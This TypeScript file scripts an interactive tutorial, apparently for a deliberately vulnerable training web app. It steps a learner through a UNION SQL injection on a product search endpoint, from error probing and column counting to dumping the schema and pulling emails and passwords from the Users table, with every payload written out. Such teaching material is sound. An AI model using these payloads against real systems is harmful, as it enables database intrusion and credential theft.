import type { Script, Step } from '../script/script.ts';
import { read, task } from '../script/steps.ts';
import { lookAtResponse, openWorkbench, requestText, send, showRepeater } from '../script/workbench.ts';

/** Returns values for a search with this term, which replaces the one before. It is encoded as far as a request line needs it. */
function searching(term: string): NonNullable<Step['values']> {
  return { payload: { payload: term.replaceAll(' ', '%20') } };
}

const firstSearch = requestText({ line: 'GET /rest/products/search?q=apple', headers: ['Accept: application/json'] });

/** UNION injection, from the apostrophe to the table of users (ui-learning.md 14.16). */
export const userCredentials: Script = [
  read('TUTORIAL_USER_CREDENTIALS_1', 15_000),
  openWorkbench,
  showRepeater,
  send('TUTORIAL_USER_CREDENTIALS_4', /Apple Juice/, { payload: { payload: firstSearch } }),
  send('TUTORIAL_USER_CREDENTIALS_5', /SQLITE_ERROR/, searching("';")),
  lookAtResponse('TUTORIAL_USER_CREDENTIALS_6', 20_000),
  send('TUTORIAL_USER_CREDENTIALS_7', /"data": ?\[\]/, searching("qwert'))--")),
  lookAtResponse('TUTORIAL_USER_CREDENTIALS_8', 20_000, { comment: { code: '--' } }),
  send('TUTORIAL_USER_CREDENTIALS_9', /same number of result columns/, searching("qwert')) UNION SELECT 1--")),
  send('TUTORIAL_USER_CREDENTIALS_10', /"name": ?2/, searching("qwert')) UNION SELECT 1,2,3,4,5,6,7,8,9--")),
  lookAtResponse('TUTORIAL_USER_CREDENTIALS_11', 20_000),
  send(
    'TUTORIAL_USER_CREDENTIALS_12',
    /CREATE TABLE/,
    searching("qwert')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master--"),
  ),
  lookAtResponse('TUTORIAL_USER_CREDENTIALS_13', 20_000, {
    table: { code: 'Users' },
    email: { code: 'email' },
    password: { code: 'password' },
  }),
  task(
    'TUTORIAL_USER_CREDENTIALS_14',
    ['#repeater-send'],
    { kind: 'solved', challenge: 'unionSqlInjectionChallenge' },
    searching("qwert')) UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users--"),
  ),
  lookAtResponse('TUTORIAL_USER_CREDENTIALS_15', 20_000),
  read('TUTORIAL_USER_CREDENTIALS_16', 20_000),
];
